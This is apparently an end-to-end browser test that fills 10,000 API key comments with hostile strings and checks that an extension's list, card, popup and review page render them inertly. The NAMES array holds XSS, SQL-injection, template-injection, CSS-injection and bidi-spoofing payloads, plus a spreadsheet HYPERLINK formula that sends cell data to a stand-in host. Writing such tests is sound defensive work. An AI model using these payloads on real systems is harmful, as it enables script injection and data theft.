import type { Page } from 'puppeteer';
import { expect, it } from 'vitest';
import { ROWS_ADMIN_KEY_ID, ROWS_PROJECT_ID, rowsSeed } from '../../../simulator/seeds/rows';
import type { Seed } from '../../../simulator/world/world';
import { cardText, openCardOf } from '../../harness/cards';
import { openList, scrollList } from '../../harness/console';
import { describeInBrowsers } from '../../harness/describe-in-browsers';
import { inPage } from '../../harness/in-page';
import { everyRowIsRight } from '../../harness/right-badges';
import { readRows } from '../../harness/rows';
import { waitFor } from '../../harness/wait-for';
import { SECRET } from '../marks';

const COUNT = 10_000;

/** What somebody who may name keys could write; each with a number, so that no two are one. */
const NAMES: readonly ((number: number) => string)[] = [
  (number) => `<img src=x onerror="hacked=${number}">${number}`,
  (number) => `<script>hacked=${number}</script>`,
  (number) => `"><linchpin-layer onclick=hacked=1><button data-entity=key>${number}`,
  (number) => `=HYPERLINK("https://elsewhere.example/?"&A${number},"Click")`,
  (number) => `javascript:hacked=${number}`,
  (number) => `\u202E${number} gnp.yek\u202C \u2066safe\u2069`,
  (number) => `✓ safe to remove ${number}`,
  (number) => `'; DROP TABLE keys; --${number}`,
  (number) => `\${hacked=${number}} {{constructor.constructor("hacked=1")()}}`,
  (number) => `__proto__ ${number}`,
  (number) => `person-${number % 50}@bigcorp.example ${number}`,
  (number) => `A\u0300${'\u0301'.repeat(40)}${number}`,
  (number) => `](javascript:hacked=1) | @everyone ${number}`,
  (number) => `} * { display: none } /* ${number}`,
  (number) => `${'W'.repeat(110)} ${number}`,
];

const seed: Seed = (world) => {
  rowsSeed({ members: 50, keys: COUNT, days: 7 })(world);
  const { keys } = world.project(ROWS_PROJECT_ID);
  let number = 0;
  for (const key of keys.values()) {
    key.comment = NAMES[number % NAMES.length]?.(number) ?? '';
    number += 1;
  }
  const own = keys.get(ROWS_ADMIN_KEY_ID);
  if (own) own.secret = SECRET;
};

/** Whatever the names could have made on a page: elements, or a global from a script that ran. */
const harm = (page: Page): Promise<string[]> =>
  inPage(page, () => {
    const made = document.querySelectorAll('img[src="x"], [onerror], [onclick], script:not([src])');
    return [...[...made].map((element) => element.outerHTML), ...('hacked' in globalThis ? ['a script ran'] : [])];
  });

describeInBrowsers(
  `${COUNT.toLocaleString('en-US')} keys with hostile comments`,
  (stage) => {
    it('carry their own badges wherever the list is scrolled to, and run nothing', async () => {
      const page = await openList(stage(), 'keys', { layout: 'virtual' });
      for (const top of [0, 40_000, 250_000, 10_000_000]) {
        await scrollList(page, top);
        await everyRowIsRight(stage(), page, 'keys');
      }
      expect(await harm(page)).toEqual([]);
      expect((await readRows(page, 'keys')).length).toBeGreaterThan(5);
      console.log(`${stage().name}: ${COUNT} hostile comments, every badge in view right, nothing ran`);
    });

    it('are shown as text in a card, the popup and the review page', async () => {
      const page = await openList(stage(), 'keys', { layout: 'virtual' });
      await everyRowIsRight(stage(), page, 'keys');
      const ref = await inPage(
        page,
        () => document.querySelector('[data-linchpin-for^="key:"]')?.getAttribute('data-linchpin-for') ?? '',
      );
      await openCardOf(page, ref);
      expect(await cardText(page)).toContain(ref.slice(4));
      expect(await harm(page)).toEqual([]);
      for (const path of ['popup.html', `review.html#project=${ROWS_PROJECT_ID}`] as const) {
        const own = await stage().session.openExtensionPage(path);
        await waitFor('the project', () => inPage(own, () => document.body.innerText.includes('Contact Centre')));
        expect(await harm(own)).toEqual([]);
      }
    });
  },
  { seed, secret: SECRET },
);
